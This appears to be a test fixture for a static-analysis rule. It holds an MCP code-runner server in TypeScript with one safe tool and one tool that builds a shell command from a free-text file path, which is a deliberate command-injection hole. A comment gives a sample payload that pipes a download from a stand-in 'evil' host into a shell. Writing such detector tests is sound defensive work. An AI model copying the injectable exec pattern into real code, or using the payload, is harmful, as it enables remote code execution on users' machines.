// An MCP code runner: the language is an enum of the schema, the code goes to a temp file.
import { exec } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { z } from 'zod';

const EXECUTORS: Record<string, string> = { python: 'python3 -u', javascript: 'node', shell: 'bash' };
const EXTENSIONS: Record<string, string> = { python: 'py', javascript: 'js' };

const server = new McpServer({ name: 'Code Runner', version: '0.1.0' });

async function tmpFile(content: string, languageId: string): Promise<string> {
  const file = path.join(os.tmpdir(), `tmp.${EXTENSIONS[languageId] ?? languageId}`);
  await fs.promises.writeFile(file, content);
  return file;
}

function run(command: string): Promise<string> {
  return new Promise((resolve, reject) => {
    // ok: llm-output-code-execution
    exec(command, (error, stdout) => (error ? reject(error) : resolve(stdout)));
  });
}

server.tool('run-code', 'Run a code snippet', {
  code: z.string().describe('Code snippet'),
  languageId: z.enum(['python', 'javascript', 'shell']).describe('Language ID'),
}, async ({ code, languageId }) => {
  // the command line holds only an executor from the table and a temp path named after an enum value
  const file = await tmpFile(code, languageId);
  const out = await run(`${EXECUTORS[languageId]} "${file}"`);
  return { content: [{ type: 'text', text: out }] };
});

server.tool('run-file', 'Run a file of the workspace', {
  languageId: z.enum(['python', 'javascript', 'shell']),
  file: z.string().describe('Path of the file'),
}, async ({ languageId, file }) => {
  // a free-text path formatted into the command line: `x"; curl evil | sh; "` runs too
  // ruleid: llm-output-code-execution
  const child = exec(`${EXECUTORS[languageId]} "${file}"`);
  return { content: [{ type: 'text', text: String(child.pid) }] };
});
